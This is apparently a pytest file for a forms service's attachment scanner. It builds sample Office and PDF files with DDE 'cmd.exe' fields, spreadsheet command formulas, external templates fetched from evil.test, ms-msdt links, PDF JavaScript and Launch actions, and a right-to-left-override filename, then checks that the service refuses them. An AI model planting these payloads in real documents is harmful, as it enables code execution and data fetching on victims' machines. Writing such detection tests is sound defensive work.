"""Attachments are what they say: named by their kind, nothing in them runs or fetches; a scanner may judge."""

from __future__ import annotations

import io
import random
import re
import sys
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.chart import BarChart, Reference

from forms.cli import cli
from forms.intake.scan import Scan, Verdict
from tests.desks import field, sign_in
from tests.kinds import kind_of
from tests.service import Running, faults_in, need_pairs
from tests.service_desk import RunningWithDesk

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"


def office(parts: dict[str, str | bytes], main: str = "word/document.xml", body: str = "<w:p/>") -> bytes:
    """Return an Office file with *parts* besides the main one."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in {
            "[Content_Types].xml": "<Types/>",
            main: f"<w:document>{body}</w:document>",
            **parts,
        }.items():
            archive.writestr(name, content)
    return file.getvalue()


def linked(kind: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    """Return a document with one link, by default to elsewhere."""
    link = f'<Relationship Id="r1" Type="{REL}/{kind}" Target="{target}"{mode}/>'
    return office({"word/_rels/document.xml.rels": f"<Relationships>{link}</Relationships>"})


def slide(action: str) -> bytes:
    """Return slides of which one has an *action*."""
    part = f'<a:hlinkClick action="ppaction://{action}"/>'
    return office({"ppt/slides/slide1.xml": part}, "ppt/presentation.xml")


def field_of(*pieces: str) -> str:
    """Return a field of a document whose instruction is cut in *pieces*."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return mark.format("begin") + runs + mark.format("separate") + "<w:t>1</w:t>" + mark.format("end")


def table(formula: str) -> bytes:
    return office({"xl/worksheets/sheet1.xml": f"<worksheet><c><f>{formula}</f></c></worksheet>"}, "xl/workbook.xml")


def types(kind: str) -> dict[str, str | bytes]:
    return {
        "[Content_Types].xml": f'<Types><Override PartName="/word/a.png" ContentType="application/{kind}"/></Types>'
    }


OFFICE = {
    "an external template": (linked("attachedTemplate", "https://evil.test/t.dotm"), "link"),
    "a template on a share": (linked("attachedTemplate", r"\\evil.test\t.dotm"), "link"),
    "a picture elsewhere": (linked("image", "https://evil.test/p.png"), "link"),
    "a link to a program": (linked("hyperlink", "ms-msdt:/id PCW"), "link"),
    "a link to a share": (linked("hyperlink", r"\\evil.test\a"), "link"),
    "an external object": (linked("oleObject", "https://evil.test/a.html!"), "program"),
    "an embedded object": (office({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "program"),
    "an object under another name": (linked("oleObject", "media/a.png", ""), "program"),
    "a kind of part that runs": (office(types("vnd.openxmlformats-officedocument.oleObject")), "program"),
    "a document with macros": (office(types("vnd.ms-word.document.macroEnabled.main+xml")), "program"),
    "macros": (office({"word/vbaProject.bin": b"x"}), "program"),
    "macros in capitals": (office({"WORD/VBAPROJECT.BIN": b"x"}), "program"),
    "a control": (office({"word/activeX/activeX1.xml": "<ax/>"}), "program"),
    "a program": (office({"word/media/setup.exe": b"MZ"}), "program"),
    "a script": (office({"word/media/a.hta": b"<script>"}), "program"),
    "an old document in it": (office({"word/embeddings/a.doc": b"x"}), "program"),
    "macros in a file in it": (office({"word/embeddings/a.docx": office({"word/vbaProject.bin": b"x"})}), "program"),
    "a macro sheet": (office({"xl/macrosheets/sheet1.xml": "<x/>"}, "xl/workbook.xml"), "program"),
    "a started program in slides": (
        slide("program?file=calc.exe"),
        "program",
    ),
    "DDE": (office({}, body=field_of('DDEAUTO c:\\cmd.exe "/k calc"')), "link"),
    "DDE in pieces": (office({}, body=field_of("D", "DEAU", "TO c:\\cmd.exe")), "link"),
    "DDE in numbers": (office({}, body=field_of("&#68;&#x44;E c:\\cmd.exe")), "link"),
    "DDE under another prefix": (office({}, body=field_of("DDE c:\\cmd.exe").replace("w:", "x:")), "link"),
    "DDE in one element": (office({}, body='<w:fldSimple w:instr=" DDE c:\\cmd.exe "/>'), "link"),
    "DDE in a header": (office({"word/header1.xml": f"<w:hdr>{field_of('DDE a b')}</w:hdr>"}), "link"),
    "DDE by a field": (
        office({}, body=field_of("").replace("<w:r><w:instr", field_of("QUOTE 68") + "<w:r><w:instr", 1)), "link",
    ),
    "a text from elsewhere": (office({}, body=field_of('INCLUDETEXT "https://evil.test/a"')), "link"),
    "DDE in a formula": (table("cmd|&apos;/c calc&apos;!A1"), "link"),
    "DDE in numbers in a formula": (table("cmd&#124;&apos;/c calc&apos;!A1"), "link"),
    "a request in a formula": (table('WEBSERVICE("https://evil.test/")'), "link"),
    "a linked workbook": (office({"xl/externalLinks/externalLink1.xml": "<ddeLink/>"}, "xl/workbook.xml"), "link"),
    "a data connection": (office({"xl/connections.xml": "<x/>"}, "xl/workbook.xml"), "link"),
    "a comment inside a field": (office({}, body=field_of("PAGE<!-- --> x")), "type"),
    "another encoding": (office({"word/header1.xml": "<w:hdr/>".encode("utf-16")}), "type"),
    "a type among the links": (office({"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}), "type"),
    "two parts of one name": (office({"word/DOCUMENT.xml": "<w:p/>"}), "type"),
}  # fmt: skip


@pytest.mark.parametrize(("data", "why"), OFFICE.values(), ids=OFFICE)
@pytest.mark.parametrize("piece", [61, 10**7])
def test_office_file_that_runs_or_fetches_something_is_refused(data: bytes, why: str, piece: int) -> None:
    assert kind_of(data, piece) == f"attachment-{why}"


def workbook() -> bytes:
    """Return a workbook with what honest ones hold: formulas, a link to a page, a chart."""
    book = openpyxl.Workbook()
    sheet: Any = book.active
    for row in range(1, 200):
        sheet.append([row, "文字 & text | more!", f"=A{row}*2", '=IF(A1="x|y","!",C1)'])
    sheet["A1"].hyperlink = "https://example.org/"
    chart = BarChart()
    chart.add_data(Reference(sheet, min_col=1, min_row=1, max_row=10))
    sheet.add_chart(chart, "F1")
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


HONEST = {
    "a workbook": (workbook(), "xlsx"),
    "a workbook with a printer": (office({"xl/printerSettings/a.bin": b"x"}, "xl/workbook.xml"), "xlsx"),
    "a contents page": (office({}, body=field_of('TOC \\o "1-3"') + field_of("PAGE")), "docx"),
    "a sum": (office({}, body=field_of("=SUM(ABOVE)")), "docx"),
    "a field in a field": (
        office({}, body=field_of("IF ").replace("Text></w:r>", f"Text></w:r>{field_of('PAGE')}", 1)), "docx",
    ),
    "a link to a page": (linked("hyperlink", "https://example.org/a?b=c"), "docx"),
    "a link by mail": (linked("hyperlink", "mailto:a@example.org"), "docx"),
    "a link inside": (office({}, body=field_of('HYPERLINK \\l "_Toc1"')), "docx"),
    "a pasted picture": (office({}, body=field_of('INCLUDEPICTURE "C:\\a.png" \\* MERGEFORMATINET')), "docx"),
    "pictures and sound": (office({"word/media/image1.PNG": b"\x89PNG<!x", "word/media/a.wav": b"RIFF"}), "docx"),
    "the table behind a chart": (office({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()}), "docx"),
    "a jump in slides": (
        slide("hlinksldjump"), "pptx",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("data", "kind"), HONEST.values(), ids=HONEST)
@pytest.mark.parametrize("piece", [61, 10**7])
def test_honest_office_file_is_taken(data: bytes, kind: str, piece: int) -> None:
    assert kind_of(data, piece) == kind


def pdf(*objects: bytes) -> bytes:
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n%%EOF\n"


def packed(content: bytes, head: bytes = b"/Type /ObjStm /Filter /FlateDecode") -> bytes:
    return b"9 0 obj << " + head + b" >>\nstream\r\n" + zlib.compress(content) + b"\nendstream endobj"


SCRIPT = b"1 0 << /S /JavaScript /JS (app.alert(1)) >>"
PDFS = {
    "a script": pdf(b"1 0 obj << /OpenAction << /S /JavaScript /JS (x) >> >> endobj"),
    "a script in numbers": pdf(b"1 0 obj << /S /J#61v#61Scrip#74 >> endobj"),
    "a program": pdf(b"1 0 obj << /S /Launch /F (cmd.exe) >> endobj"),
    "a file": pdf(b"1 0 obj << /Type /EmbeddedFile >> endobj"),
    "a rendition": pdf(b"1 0 obj << /S/Rendition/JS(x) >> endobj"),
    "a form that is a program": pdf(b"1 0 obj << /AcroForm << /XFA [ (a) 2 0 R ] >> >> endobj"),
    "a script in a stream of objects": pdf(packed(SCRIPT)),
    "a script in a stream behind a remark": pdf(packed(b"% x\n" + SCRIPT)),
    "a script in a stream that says it is a picture": pdf(packed(SCRIPT, b"/Subtype /Image /Filter /FlateDecode")),
    "a script far behind in a stream": pdf(packed(b"1 0 " + b" " * 3_000_000 + SCRIPT)),
    "a script in a stream inside a remark": pdf(b"% stream\n" + zlib.compress(b"0" * 9)[:6], packed(SCRIPT)),
    "objects packed in another way": pdf(b"9 0 obj << /Type /ObjStm /Filter /LZWDecode >> stream\n\x80 endstream"),
    "a password": pdf(b"trailer << /Encrypt 5 0 R >>"),
}  # fmt: skip


@pytest.mark.parametrize("data", PDFS.values(), ids=PDFS)
@pytest.mark.parametrize("piece", [61, 10**7])
def test_pdf_that_runs_something_is_refused(data: bytes, piece: int) -> None:
    assert kind_of(data, piece) == "attachment-pdf"


@pytest.mark.parametrize(
    "data",
    [
        PDF,
        pdf(packed(b"1 0 2 9 << /Type /Page >> << /Type /Font >>")),
        pdf(packed(b"q 1 0 0 1 72 720 cm (/JavaScript) Tj", b"/Filter /FlateDecode")),
        pdf(b"1 0 obj << /JavaScripted true /Launched 1 /OpenAction [2 0 R /Fit] /S /URI >> endobj"),
        pdf(b"5 0 obj << /Filter [/ASCII85Decode /FlateDecode] >> stream\nGap(~> endstream endobj"),
    ],
    ids=["plain", "objects", "a page about scripts", "other names", "another filter"],
)
@pytest.mark.parametrize("piece", [61, 10**7])
def test_honest_pdf_is_taken(data: bytes, piece: int) -> None:
    assert kind_of(data, piece) == "pdf"


def seconds_for(data: bytes) -> float:
    """Return the seconds of this processor that reading *data* takes, in the quicker of two runs."""
    taken = []
    for _ in range(2):
        start = time.process_time()
        kind_of(data)
        taken.append(time.process_time() - start)
    return min(taken)


COSTLY = {
    "streams that begin": lambda size: pdf(b"stream\n" * (size // 7)),
    "names that almost run": lambda size: pdf(b"/JavaScrip" * (size // 10)),
    "blanks": lambda size: pdf((b"/XFA" + b" " * 60) * (size // 64)),
    "elements": lambda size: office({"word/a.xml": "<a>" + "<b/>" * (size // 4)}),
    "fields without an end": lambda size: office({"word/a.xml": "<a>" + "<w:instrText " * (size // 13)}),
    "signs of a formula": lambda size: office({"word/a.xml": "<a><f>" + "|" * min(size, 900_000) + "</f>"}),
    "links": lambda size: office({"word/a.rels": f"<a>{'<b/>' * (min(size, 900_000) // 4)}</a>"}),
}


@pytest.mark.parametrize("costly", COSTLY.values(), ids=COSTLY)
def test_cost_of_a_hostile_file_grows_no_faster_than_the_file(costly: Any) -> None:
    small, large = seconds_for(costly(250_000)), seconds_for(costly(1_000_000))

    assert large < max(small, 0.02) * 4 * 2.5


def test_files_in_a_file_are_unpacked_within_one_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("forms.intake.archives.MOST_BYTES", 20 * 2**20)
    luck = random.Random(1)  # noqa: S311 - so that it packs to a hundredth
    inner = office({"word/a.xml": "<a>" + "".join(f"<b>{luck.random()}{' ' * 1900}</b>" for _ in range(1_200))})
    outer = office({f"word/embeddings/{number}.docx": inner for number in range(12)})

    assert kind_of(inner) == "docx"
    assert kind_of(outer) == "attachment-bomb"


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    served = Running(tmp_path_factory.mktemp("service"))
    yield served
    served.stop()


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("报价单.hta", "报价单.pdf"),
        ("报价单.pdf.exe", "报价单.pdf"),
        ("方案", "方案.pdf"),
        ("方案第2.1版", "方案第2.1版.pdf"),
        ("a.PDF", "a.PDF"),
        ("a\u202efdp.scr", "afdp.pdf"),
        (".hta", "hta.pdf"),
    ],
)
def test_name_of_a_file_ends_in_the_kind_that_was_found(running: Running, sent: str, kept: str) -> None:
    number, _ = running.receipt_of(running.send("need", need_pairs(), [(sent, PDF)]))

    assert [file.name for file in running.service.inbox.attachments(number, running.identity)] == [kept]


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("a.docx", OFFICE["macros"][0], "paste those as pictures"),
        ("a.docx", OFFICE["an external template"][0], "Detach its template"),
        ("a.pdf", PDFS["a script"], "Print it to a new PDF"),
    ],
)
def test_refusal_says_what_to_save_differently(running: Running, name: str, data: bytes, said: str) -> None:
    answer = running.send("need", {**need_pairs(), "language": "en"}, [(name, data)])

    assert answer.status_code == 422
    assert [line for line in faults_in(answer.text) if said in line]


def scanner(*lines: str) -> tuple[str, ...]:
    """Return the command of a scanner in Python that has the file as ``data``."""
    return (sys.executable, "-c", "\n".join(("import sys, time", "data = sys.stdin.buffer.read()", *lines)))


SCANNER = scanner("bad = b'EICAR' in data", "print('stream: Eicar \\x1b[2J FOUND' if bad else 'OK')", "sys.exit(bad)")


@pytest.mark.parametrize(
    ("command", "data", "verdict"),
    [
        (SCANNER, b"harmless" * 100_000, Verdict("clean")),
        (SCANNER, b"EICAR" + b"x" * 500_000, Verdict("found", "stream: Eicar <U+001B>[2J FOUND")),
        (scanner("sys.exit(2)"), b"x", Verdict("failed")),
        (("/no/such/scanner",), b"x", Verdict("failed")),
        ((sys.executable, "-c", "raise SystemExit(0)"), b"x" * 500_000, Verdict("clean")),
        ((sys.executable, "-c", "import time; time.sleep(600)"), b"x" * 500_000, Verdict("failed")),
        (scanner("time.sleep(600)"), b"x", Verdict("failed")),
    ],
    ids=["clean", "found", "fault", "missing", "reads nothing", "hangs while reading", "hangs at the end"],
)
def test_scanner_has_its_verdict_and_never_holds_the_service_up(
    command: tuple[str, ...], data: bytes, verdict: Verdict
) -> None:
    scan = Scan(command, seconds=3)
    for start in range(0, len(data), 65536):
        scan.write(data[start : start + 65536])

    assert scan.verdict() == verdict


@pytest.mark.parametrize("written", ["/no/such/scanner -", 'clamdscan "'])
def test_service_does_not_start_with_a_scanner_that_is_none(base: Path, tmp_path: Path, written: str) -> None:
    (base / "mkdocs.yml").write_text("site_name: Test\n", encoding="utf-8")
    where = ["--root", str(base), "--lang", "en", "--port", "0"]
    environment = {"JIEBANG_SCAN": written, "XDG_CONFIG_HOME": str(tmp_path / "keys")}
    done = CliRunner().invoke(cli, ["forms", "serve", *where], env=environment)

    assert (done.exit_code, "JIEBANG_SCAN must be a command that this machine has" in done.output) == (2, True)


def test_verdict_of_the_scanner_is_on_the_desk_and_what_it_found_is_not_handed_out(tmp_path: Path) -> None:
    running = RunningWithDesk(tmp_path, scan=SCANNER)
    try:
        files = [("good.hta", PDF), ("bad.pdf", pdf(b"% EICAR"))]
        number, _ = running.receipt_of(running.send("need", need_pairs(), files))
        with running.desk_client() as client:
            client.headers["accept-language"] = "en"
            sign_in(client, "organizer")
            page = client.get(f"/desk/s/{number}").text
            given = {"csrf": field(page, "csrf"), "tip": field(page, "tip")}
            opened = client.post(f"/desk/s/{number}/reveal", data=given).text
            given["tip"] = field(opened, "tip")
            good, bad = (client.post(f"/desk/s/{number}/attachments/{n}", data=given) for n in (1, 2))
    finally:
        running.stop()

    assert re.findall(r'data-scan="(\w+)">([^<]*)<', opened) == [
        ("clean", "The scanner found nothing."),
        ("found", "The scanner refuses this file: stream: Eicar &lt;U+001B&gt;[2J FOUND. It is not handed out here."),
    ]
    assert re.findall(r'formaction="[^"]*/attachments/(\d)"', opened) == ["1"]
    assert (good.status_code, good.content) == (200, PDF)
    assert good.headers["content-disposition"].endswith("filename*=UTF-8''good.pdf")
    assert good.headers["content-disposition"].startswith("attachment;")
    assert (good.headers["content-type"], good.headers["x-content-type-options"]) == (
        "application/octet-stream",
        "nosniff",
    )
    assert (bad.status_code, b"EICAR" in bad.content) == (422, False)
